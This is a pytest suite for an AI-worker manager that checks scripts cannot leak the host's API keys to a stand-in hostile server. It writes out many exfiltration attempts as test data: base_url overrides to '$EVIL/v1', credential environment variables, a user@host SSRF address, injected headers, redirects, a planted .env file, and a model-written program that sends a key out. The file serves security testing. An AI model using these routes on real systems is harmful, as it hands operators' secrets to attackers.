"""Attacks on keys: a script that wants the host's secrets sent to a server of its own, or simply to see them.

Each says what would have happened.  The hostile server must see no secret, whichever way the script takes.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from ai_wm import AIWorkerManager, LLMRequest, LLMResponse, Usage, WorkerPolicy
from ai_wm.providers import Clients
from tests.ai_wm.helpers import Answers, raises_code
from tests.ai_wm.providers.loopback import reply
from tests.ai_wm.providers.support import body_of, user
from tests.attacks.world import FILED, INLINE, SECRETS, World, adding, env, ids

EVIL = {"base_url": "$EVIL/v1"}
SPAWN = 'set chat = tool.AIWorkerInstance.Spawn("helper").conversation_manager_handle\n'
ASK = 'ask "helper", "x" into r'

# --- every public way in ---

WAYS_IN: list[tuple[str, str]] = [
    (
        "Two statements of script sent any environment variable to any address.",
        adding(auth=env("AWS_SECRET_ACCESS_KEY"), base_config=EVIL) + '\nask "w", "x" into r',
    ),
    (
        "An override of the address sent the host's own key along, as LiteLLM's api_base did (CVE-2024-6587).",
        'ask "helper", "x" with {"base_url": "$EVIL/v1"} into r',
    ),
    (
        "The same by the tool for one-shot tasks.",
        'return tool.AIWorker.ExecuteStatelessTask("helper", "x", {"base_url": "$EVIL/v1"})',
    ),
    (
        "The same for a batch, whose errors are values and not raised.",
        'return tool.AIWorker.ExecuteBatch("helper", ["x"], 1, {"base_url": "$EVIL/v1"})',
    ),
    (
        "The address was overridden when an instance was spawned, and every turn went there.",
        SPAWN.replace(")", ', {"base_url": "$EVIL/v1"})') + 'return tool.Conversation.Ask(chat, "x")',
    ),
    (
        "The address was overridden for a turn of a conversation.",
        SPAWN + 'return tool.Conversation.Ask(chat, "x", {"base_url": "$EVIL/v1"})',
    ),
    (
        "The language's ask overrode the address of a conversation.",
        SPAWN + 'ask chat, "x" with {"base_url": "$EVIL/v1"} into r',
    ),
    (
        "The host's definition was turned to another address, and so was everybody who asked it afterwards.",
        'call tool.AIWorkerDefinition.Update("helper", {"base_config": {"base_url": "$EVIL/v1"}})\n' + ASK,
    ),
    (
        "The spelling of the files, which updates take too, went past the check of the other one.",
        'call tool.AIWorkerDefinition.Update("helper", {"baseConfig": {"base_url": "$EVIL/v1"}})\n' + ASK,
    ),
    (
        "The host's definition was removed and added again with the same name, key and another address.",
        'call tool.AIWorkerDefinition.Remove("helper")\n'
        + adding("helper", env("OPENAI_API_KEY"), base_config=EVIL)
        + '\nask "helper", "x" into r',
    ),
    (
        "A second definition on the host's key, at the public address of the provider that is not the operator's.",
        adding("w", env("OPENAI_API_KEY"), provider="openai", base_config={"base_url": "https://api.openai.com/v1"})
        + '\nask "w", "x" into r',
    ),
    (
        "A provider's key went to another provider's address: Gemini's to the server that OpenAI's variable names.",
        adding("w", env("GEMINI_API_KEY"), provider="openai") + '\nask "w", "x" into r',
    ),
    (
        "A handler of the system's event asked again, at another address.",
        adding("local", provider="local", model_name="echo") + '\nask "local", "go" into r',
    ),
    (
        "The host's key file was read as if it were the script's: config_path#key is a source like any other.",
        adding("w", {"method": "config_path", "value": "keys.toml#openai.key"}, base_config=EVIL)
        + '\nask "w", "x" into r',
    ),
    (
        "The key source was left out of the update, and only the address changed.",
        adding("w", env("OPENAI_API_KEY"), provider="openai")
        + '\ncall tool.AIWorkerDefinition.Update("w", {"base_config": {"base_url": "$EVIL/v1"}})\nask "w", "x" into r',
    ),
    (
        "The address hid behind one that is approved: user@host, as the published SSRF of many proxies has it.",
        adding("w", env("OPENAI_API_KEY"), base_config={"base_url": "https://api.openai.com@127.0.0.1:1/v1"})
        + '\nask "w", "x" into r',
    ),
    (
        "Headers of the script's own went along with the key, to be reflected by an open endpoint.",
        'ask "helper", "x" with {"headers": {"X-Forwarded-Host": "evil.example"}} into r',
    ),
    (
        "The key source itself was given as an override.",
        'ask "helper", "x" with {"auth": {"method": "env_var", "value": "DATABASE_PASSWORD"}} into r',
    ),
    (
        "The provider was given as an override, and with it another wire format and address.",
        'ask "helper", "x" with {"provider": "custom", "api_base": "$EVIL/v1"} into r',
    ),
]


@pytest.mark.parametrize(("says", "text"), WAYS_IN, ids=ids(WAYS_IN))
def test_no_way_leads_a_key_to_another_server(world: World, says: str, text: str) -> None:
    manager = world.manager()
    world.host_adds(manager)
    script = world.script(manager)
    script.interpreter.load(
        'on event "ai_wm.task.completed" as e do\n'
        f'  ask "helper", "x" with {{"base_url": "{world.evil.url}/v1"}} into r\nendon\n'
    )
    assert script.code(text) in (0, 9, 10, 18)
    assert world.evil.received == [], says


def test_a_refusal_says_what_would_permit_it(world: World) -> None:
    script = world.script(world.manager())
    script.run(adding("w", env("ACME_API_KEY"), base_config={"base_url": "https://api.acme.example/v1"}))
    asked = script.refusal('ask "w", "x" into r')
    assert "--allow-key env:ACME_API_KEY=https://api.acme.example" in asked
    policy = WorkerPolicy(origins=("https://api.acme.example",))
    asked = world.script(script.manager, policy).refusal('ask "w", "x" into r')
    assert "--allow-key env:ACME_API_KEY=https://api.acme.example" in asked


def test_a_refusal_is_the_same_whether_there_is_such_a_variable_or_not(world: World) -> None:
    """Whether DATABASE_PASSWORD exists was told by the error: 18 if not, a failed connection if so."""
    script = world.script(world.manager())
    words = []
    for number, variable in enumerate(("DATABASE_PASSWORD", "NO_SUCH_VARIABLE")):
        script.run(adding(f"w{number}", env(variable), base_config={"base_url": "$EVIL/v1"}))
        words.append(script.refusal(f'ask "w{number}", "x" into r').replace(variable, "…").replace(f"w{number}", "w"))
        script.run(adding(f"l{number}", env(variable), provider="local", model_name="echo"))
        words.append(script.refusal(f'ask "l{number}", "x" into r').replace(variable, "…").replace(f"l{number}", "l"))
    assert words[:2] == words[2:]


def test_whether_a_variable_exists_is_a_secret_too(world: World) -> None:
    """The status of a key in a listing told which of a thousand guessed variables exist."""
    script = world.script(world.manager())
    for name, variable in (("a", "DATABASE_PASSWORD"), ("b", "NO_SUCH_VARIABLE"), ("c", "ANTHROPIC_API_KEY")):
        script.run(adding(name, env(variable), provider="anthropic"))
    script.run(adding("d", {"method": "vault", "value": "kv/team/x#field"}))
    listed = script.run("return tool.AIWorkerDefinition.List()")
    statuses = {item["name"]: item["api_key_status"] for item in listed}
    assert statuses == {"a": "Not Approved", "b": "Not Approved", "c": "Found", "d": "Not Approved"}
    assert script.manager.key_status("a") == "Found"
    assert script.manager.key_status("b") == "Not Found"


def test_a_script_sees_no_key_of_the_host(world: World) -> None:
    """Reading the host's definitions showed a key that stands in one, and headers with another."""
    manager = world.manager()
    headers = {"Authorization": f"Bearer {SECRETS['GROQ_API_KEY']}"}
    world.host_adds(manager, auth={"method": "inline", "value": INLINE}, base_config={"headers": headers})
    script = world.script(manager)
    get, listed = 'tool.AIWorkerDefinition.Get("helper")', "tool.AIWorkerDefinition.List()"
    shown = script.run(f"{SPAWN}return [{get}, {listed}, tool.AIWorkerInstance.ListActive()]")
    assert shown[0]["auth"] == {"method": "inline", "value": "***"}
    assert shown[0]["base_config"]["headers"] == {"Authorization": "***"}


def test_a_masked_key_cannot_be_copied_into_another_definition(world: World) -> None:
    """`***` given back as a key stood for the host's key, and took it to another address."""
    manager = world.manager()
    world.host_adds(manager, auth={"method": "inline", "value": INLINE})
    script = world.script(manager)
    auth = {"method": "inline", "value": "***"}
    assert script.code(adding("w", auth, base_config=EVIL)) == 4


def test_a_pasted_key_is_refused_and_not_shown(world: World) -> None:
    """A key that was pasted where the name of its variable belongs was stored, listed and told in every error."""
    script = world.script(world.manager())
    with raises_code(4, "not the name of an environment variable") as caught:
        script.run(adding("w", env(SECRETS["OPENAI_API_KEY"])))
    assert SECRETS["OPENAI_API_KEY"] not in str(caught.value)


def with_variables_of_sdks(world: World) -> None:
    """The environment has what the providers' SDKs add to requests: an organisation, headers, a proxy's token."""
    world.environ |= {
        "ANTHROPIC_AUTH_TOKEN": SECRETS["GROQ_API_KEY"],
        "ANTHROPIC_CUSTOM_HEADERS": f"X-Key: {SECRETS['GROQ_API_KEY']}\nno header",
        "OPENAI_ORG_ID": SECRETS["GROQ_API_KEY"],
        "OPENAI_PROJECT_ID": SECRETS["GROQ_API_KEY"],
    }


def test_the_variables_of_sdks_go_with_an_approved_key(world: World) -> None:
    """What the environment adds is a key: it goes where the provider's key may go, and is shown nowhere."""
    with_variables_of_sdks(world)
    secret = SECRETS["GROQ_API_KEY"]
    script = world.script(world.manager())
    world.friend.will(reply({"error": {"type": "api_error", "message": f"no {secret}"}}, 400))
    assert script.code(adding("w", env("ANTHROPIC_API_KEY"), provider="anthropic") + '\nask "w", "x" into r') == 16
    (request,) = world.friend.received
    assert request.headers["x-api-key"] == SECRETS["ANTHROPIC_API_KEY"]
    assert (request.headers["x-key"], request.headers.get("authorization")) == (secret, None)  # a key is there
    script.run('return tool.AIWorker.GetPerformanceRecords("w")')
    assert secret not in repr(world.seen)


def test_the_variables_of_sdks_go_with_no_call_that_has_no_approval(world: World) -> None:
    """A script that has no key of its own asked with the operator's token, or took it along to its own server."""
    with_variables_of_sdks(world)
    world.friend.will(reply(body_of("anthropic")))
    policy = WorkerPolicy(origins=(world.evil.url,))
    script = world.script(world.manager(), policy)
    script.run(adding("none", provider="anthropic") + '\nask "none", "x" into r')
    script.run(
        adding("inline", {"method": "inline", "value": "sk-own"}, provider="anthropic") + '\nask "inline", "x" into r'
    )
    for provider in ("anthropic", "openai"):
        world.evil.will(reply(body_of(provider)))
        script.run(
            adding(f"evil-{provider}", provider=provider, base_config=EVIL) + f'\nask "evil-{provider}", "x" into r'
        )
    assert len(world.friend.received) == len(world.evil.received) == 2
    assert SECRETS["GROQ_API_KEY"] not in repr([*world.friend.received, *world.evil.received])


def test_the_host_itself_asks_with_the_variables_of_sdks(world: World) -> None:
    """Without a key the token is one; where the host names another address none of them goes."""
    with_variables_of_sdks(world)
    world.friend.will(reply(body_of("anthropic")))
    world.evil.will(reply(body_of("anthropic")))
    manager = world.manager()
    world.host_adds(manager, provider="anthropic", auth={"method": "none"})
    world.host_adds(
        manager, "elsewhere", provider="anthropic", auth={"method": "none"}, base_config={"base_url": world.evil.url}
    )
    world.host_adds(manager, "named", provider="anthropic", auth=env("ANTHROPIC_AUTH_TOKEN"))
    for name in ("helper", "elsewhere", "named"):
        manager.execute_stateless_task(name, "x")
    for request in world.friend.received:
        assert request.headers["authorization"] == f"Bearer {SECRETS['GROQ_API_KEY']}"
        assert "x-api-key" not in request.headers
    assert len(world.friend.received) == 2
    assert SECRETS["GROQ_API_KEY"] not in repr(world.evil.received)


def test_a_redirect_takes_no_key_along(world: World) -> None:
    """The trusted server, or who stands in its place, answered with a redirect, and the key followed it."""
    world.friend.will(reply(b"", 307, {"location": f"{world.evil.url}/v1/chat/completions"}))
    manager = world.manager()
    world.host_adds(manager)
    assert world.script(manager).code('ask "helper", "x" into r') == 16
    assert world.evil.received == []


def test_a_file_that_names_an_address_after_the_check_changes_nothing(world: World) -> None:
    """The definition was checked, changed while the call waited, and then sent where it had come to point."""
    manager = world.manager()
    id_ = world.host_adds(manager, base_config={"on_limit": "wait"}, rate_limits={"max_requests_per_minute": 1000})
    script = world.script(manager)
    original = manager._wiring.limiter.reserve

    def reserve(*args: Any, **named: Any) -> Any:
        manager.update_worker_definition(id_, {"base_config": {"base_url": f"{world.evil.url}/v1"}})
        return original(*args, **named)

    manager._wiring.limiter.reserve = reserve  # type: ignore[method-assign]
    script.run('ask "helper", "x" into r')
    assert [len(world.evil.received), len(world.friend.received)] == [0, 1]


def test_the_key_is_had_only_by_naming_the_final_address(world: World) -> None:
    """A client that changes the address at the last moment, as a plugin or a later version may, asks for the key of
    the address that it sends to, and gets none."""
    manager = world.manager()
    world.host_adds(manager)
    requests: list[LLMRequest] = []

    class Client:
        def complete(self, request: LLMRequest) -> LLMResponse:
            requests.append(request)
            usage = Usage(input_tokens=1, output_tokens=1)
            return LLMResponse(text="", finish_reason="stop", usage=usage, model="m")

    clients: Any = manager._wiring.clients
    clients._made["openai"] = Client()
    world.script(manager).run('ask "helper", "x" into r')
    (request,) = requests
    assert request.api_key is None
    key = request.key_for(f"{world.friend.url}/v1/chat/completions")
    assert key is not None
    assert key.get() == SECRETS["OPENAI_API_KEY"]
    for url in (f"{world.evil.url}/v1", f"{world.friend.url}/v2", f"{world.friend.url}/v1/../x", "nonsense"):
        with raises_code(10):
            request.key_for(url)


# --- the host's own clients, and packages' ---


def test_a_client_of_the_host_gets_no_key_from_a_definition_of_a_script(world: World) -> None:
    """A script named the provider that the host gave a client for, and any variable; the client got its value."""
    client = Answers(lambda request: "none" if request.api_key is None else request.api_key.get())
    manager = world.manager(clients={"mine": client})
    world.host_adds(manager, provider="mine", auth=env("GROQ_API_KEY"))
    script = world.script(manager)
    script.run(adding("w", env("AWS_SECRET_ACCESS_KEY"), provider="mine"))
    assert "provider:mine" in script.refusal('ask "w", "x" into r')
    script.run(adding("v", provider="mine"))
    assert script.run('ask "v", "x" into r\nreturn r') == "none"
    assert manager.execute_stateless_task("helper", "x").output == SECRETS["GROQ_API_KEY"]
    granted = world.script(manager, WorkerPolicy(keys={"env:AWS_SECRET_ACCESS_KEY": ["provider:mine"]}))
    client.answer = lambda request: "the key" if request.api_key is not None else "none"
    assert granted.run('ask "w", "x" into r\nreturn r') == "the key"


def test_a_fallback_has_its_own_address_and_key_whatever_the_overrides_say(world: World) -> None:
    """The host's fallback was asked at the address of the override, or of the definition that failed, with its key."""
    world.evil.will(reply({"error": "down"}, 500))
    manager = world.manager()
    world.host_adds(manager)
    policy = WorkerPolicy(overrides=("base_url",), origins=(world.evil.url,))
    script = world.script(manager, policy)
    fails = {"replies": [{"error": "down"}], "fallbacks": ["helper"]}
    script.run(adding("local", provider="local", model_name="scripted", base_config=fails))
    script.run(adding("own", base_config={**EVIL, "fallbacks": ["helper"], "max_retries": 0}))
    for name in ("local", "own"):
        for how in ("", ' with {"base_url": "$EVIL/v1"}'):
            script.run(f'ask "{name}", "x"{how} into r')
    keys = [request.headers.get("authorization") for request in world.friend.received]
    assert keys == [f"Bearer {SECRETS['OPENAI_API_KEY']}"] * 4
    assert {request.headers.get("authorization") for request in world.evil.received} == {None}


# --- who is whose deputy ---


def test_the_host_is_no_deputy_of_a_script(world: World) -> None:
    """A script left a definition that the host then asked by name, with the host's rights, at the script's address."""
    manager = world.manager()
    script = world.script(manager)
    script.run(adding("helper", env("AWS_SECRET_ACCESS_KEY"), base_config={"base_url": "$EVIL/v1"}))
    with raises_code(10):
        manager.execute_stateless_task("helper", "x")
    with raises_code(10):
        manager.conversation(manager.spawn_worker_instance("helper").instance_id).ask("x")


def test_a_definition_whose_id_is_a_name_of_the_host_is_not_asked_in_its_place(world: World) -> None:
    """A script gave its definition the host's name as its id, which is looked up first."""
    manager = world.manager()
    script = world.script(manager)
    script.run(adding("innocent", definition_id="helper", base_config={"base_url": "$EVIL/v1"}))
    world.host_adds(manager)
    manager.execute_stateless_task("helper", "x")
    assert len(world.friend.received) == 1
    script.run('ask "helper", "x" into r')
    assert len(world.friend.received) == 2


# --- the counterparts of published leaks ---


def test_litellm_api_base_of_a_request(world: World) -> None:
    """CVE-2024-6587: whoever could send a request gave its api_base, and got the proxy's OpenAI key there."""
    manager = world.manager()
    world.host_adds(manager)
    script = world.script(manager)
    for key in ("api_base", "base_url", "api_key", "custom_llm_provider", "organization", "default_headers"):
        assert key in script.refusal(f'ask "helper", "x" with {{"{key}": "$EVIL/v1"}} into r')
    assert world.evil.received == world.friend.received == []


def test_litellm_settings_that_reach_code(world: World) -> None:
    """CVE-2024-6825 and CVE-2024-4888/9: settings of a request named callbacks to run and files to delete."""
    manager = world.manager()
    world.host_adds(manager)
    script = world.script(manager)
    for key in ("post_call_rules", "callbacks", "input_callback", "file", "mock_response", "replies_from"):
        assert key in script.refusal(f'ask "helper", "x" with {{"{key}": "os.system"}} into r')
    assert world.friend.received == []


def test_litellm_a_reference_to_the_environment_in_a_value(world: World) -> None:
    """GHSA-53gh-p8jc-7rg8: a value that begins with os.environ/ was replaced by that variable, and shown."""
    manager = world.manager()
    world.host_adds(manager)
    world.friend.will(reply(body_of("openai", "os.environ/DATABASE_PASSWORD")))
    script = world.script(manager)
    script.run(
        'ask "helper", "x" with {"system_prompt": "os.environ/DATABASE_PASSWORD ${DATABASE_PASSWORD}"} into r\nreturn r'
    )
    assert SECRETS["DATABASE_PASSWORD"].encode() not in world.friend.received[0].body


def test_mcp_a_server_that_names_another_endpoint(world: World) -> None:
    """CVE-2025-6514 and its kin: what the server said of further endpoints was used, with what the client held."""
    said = {**body_of("openai"), "base_url": world.evil.url, "endpoint": world.evil.url, "api_base": world.evil.url}
    headers = {"location": world.evil.url, "content-location": world.evil.url, "alt-svc": f'h2="{world.evil.url}"'}
    world.friend.will(reply(said, headers=headers))
    manager = world.manager()
    world.host_adds(manager)
    script = world.script(manager)
    script.run('ask "helper", "x" into r\nask "helper", "y" into r')
    assert world.evil.received == []


def test_smolagents_the_model_writes_the_program(world: World) -> None:
    """A model that writes programs, as smolagents' agents do, wrote one that sends the key out, and it was run."""
    manager = world.manager()
    world.host_adds(manager)
    written = adding("w", env("OPENAI_API_KEY"), base_config={"base_url": f"{world.evil.url}/v1"})
    world.friend.will(reply(body_of("openai", f'func pwn() means\n  {written}\n  ask "w", "x" into r\nendfunc\n')))
    script = world.script(manager)
    script.run('ask "helper", "write it" into program\ncall tool.script.LoadScript(program)')
    with raises_code(10):
        script.interpreter.run("pwn")


def test_a_dot_env_that_came_with_a_repository_is_not_read(world: World) -> None:
    """A cloned repository brought a .env that turned OPENAI_BASE_URL to its own server."""
    (world.directory / ".env").write_text(f"OPENAI_BASE_URL={world.evil.url}/v1\nOPENAI_API_KEY=sk-theirs\n")
    manager = world.manager()
    world.host_adds(manager)
    world.script(manager).run('ask "helper", "x" into r')
    assert [len(world.evil.received), len(world.friend.received)] == [0, 1]


# --- what the host grants, is granted ---


def test_the_same_attempts_succeed_where_the_host_grants_them(world: World) -> None:
    manager = world.manager()
    policy = WorkerPolicy(keys={"env:GROQ_API_KEY": [f"{world.friend.url}/v1"]})
    script = world.script(manager, policy)
    script.run(adding("w", env("GROQ_API_KEY"), base_config={"base_url": "$FRIEND/v1"}) + '\nask "w", "x" into r')
    assert world.friend.received[0].headers["authorization"] == f"Bearer {SECRETS['GROQ_API_KEY']}"
    assert "evil" not in script.refusal(
        adding("v", env("GROQ_API_KEY"), base_config={"base_url": "$EVIL/v1"}) + '\nask "v", "x" into r'
    )


def test_patterns_of_sources_and_files_are_granted_too(world: World) -> None:
    policy = WorkerPolicy(keys={"config:keys.toml#*": [world.friend.url]})
    script = world.script(world.manager(), policy)
    auth = {"method": "config_path", "value": "./keys.toml#openai.key"}
    script.run(adding("w", auth, base_config={"base_url": "$FRIEND/v1"}) + '\nask "w", "x" into r')
    assert world.friend.received[0].headers["authorization"] == f"Bearer {FILED}"


def test_the_usual_key_goes_to_its_provider_without_ceremony(world: World) -> None:
    script = world.script(world.manager())
    script.run(adding("w", env("OPENAI_API_KEY"), provider="openai") + '\nask "w", "x" into r')
    assert world.friend.received[0].headers["authorization"] == f"Bearer {SECRETS['OPENAI_API_KEY']}"


def test_a_key_that_is_the_scripts_own_goes_where_it_may_go(world: World) -> None:
    script = world.script(world.manager(), WorkerPolicy(origins=(world.evil.url,)))
    auth = {"method": "inline", "value": "sk-the-scripts-own"}
    script.run(adding("w", auth, base_config={"base_url": "$EVIL/v1"}) + '\nask "w", "x" into r')
    assert world.evil.received[0].headers["authorization"] == "Bearer sk-the-scripts-own"


def test_a_second_definition_on_a_key_of_the_host_is_for_the_host_to_grant(world: World) -> None:
    """A second definition on the host's key had none of the limits of the first."""
    manager = world.manager()
    world.host_adds(manager, rate_limits={"max_requests_per_minute": 2})
    add = adding("w", env("OPENAI_API_KEY"), provider="openai")
    script = world.script(manager)
    script.run(add)
    assert "a definition of the host's uses" in script.refusal('ask "w", "x" into r')
    granted = world.script(manager, WorkerPolicy(keys={"env:OPENAI_API_KEY": [world.friend.url]}))
    granted.run('ask "w", "x" into r\nask "helper", "x" into r')
    assert granted.code('ask "w", "x" into r') == 20
    assert granted.code('ask "helper", "x" into r') == 20
    assert len(world.friend.received) == 2


def test_the_two_variables_of_one_provider_are_one_key(world: World) -> None:
    """GOOGLE_API_KEY and GEMINI_API_KEY are mostly the same key: the other one went past the limits of the first."""
    world.environ["GOOGLE_GEMINI_BASE_URL"] = world.friend.url
    manager = world.manager()
    world.host_adds(manager, provider="google", auth=env("GEMINI_API_KEY"))
    script = world.script(manager)
    script.run(adding("w", env("GOOGLE_API_KEY"), provider="google"))
    assert "GOOGLE_API_KEY" in script.refusal('ask "w", "x" into r')
    assert world.friend.received == []


def test_a_definition_of_the_host_needs_no_ceremony(world: World, tmp_path: Path) -> None:
    for name, fields in {
        "own address": {"base_config": {"base_url": f"{world.friend.url}/v1/acct-7"}, "auth": env("GROQ_API_KEY")},
        "own key": {"auth": {"method": "inline", "value": INLINE}},
        "key file": {"auth": {"method": "config_path", "value": "keys.toml#openai.key"}},
    }.items():
        with AIWorkerManager(tmp_path / name, environ=world.environ, config_dir=world.config) as manager:
            world.host_adds(manager, **fields)
        # Another process, which knows it by its mark.
        with AIWorkerManager(tmp_path / name, environ=world.environ, config_dir=world.config) as manager:
            world.script(manager).run('ask "helper", "x" into r')
    assert len(world.friend.received) == 3
    assert all("authorization" in request.headers for request in world.friend.received)


def test_a_custom_provider_without_an_address_has_none(world: World) -> None:
    """A definition for `custom` without an address was sent, with its key, to OpenAI's."""
    manager = world.manager()
    world.host_adds(manager, provider="custom", auth=env("GROQ_API_KEY"))
    with raises_code(18, "needs base_config.base_url"):
        manager.execute_stateless_task("helper", "x")
    with Clients(environ=world.environ) as clients, raises_code(18):
        clients.for_provider("custom").complete(LLMRequest(provider="custom", model="m", messages=(user("x"),)))
    assert world.friend.received == []
    assert json.dumps(world.seen) == "[]"


def test_a_conversation_goes_where_its_definition_s_key_belongs_now(world: World) -> None:
    """The host gave a worker another server and that one's key; conversations sent the new key to the old server."""
    manager = world.manager()
    address = f"{world.evil.url}/v1"
    worker = world.host_adds(manager, auth={"method": "none"}, base_config={"base_url": address})
    chat = manager.conversation(manager.spawn_worker_instance(worker).instance_id)
    chat.ask("hello")
    asked = len(world.evil.received)
    manager.update_worker_definition(
        worker, {"auth": {"method": "env_var", "value": "OPENAI_API_KEY"}, "base_config": {}}
    )
    chat.ask("hello again")
    assert len(world.evil.received) == asked
    assert f"Bearer {SECRETS['OPENAI_API_KEY']}" in str(world.friend.received[-1].headers)
    world.check_nothing_leaked()
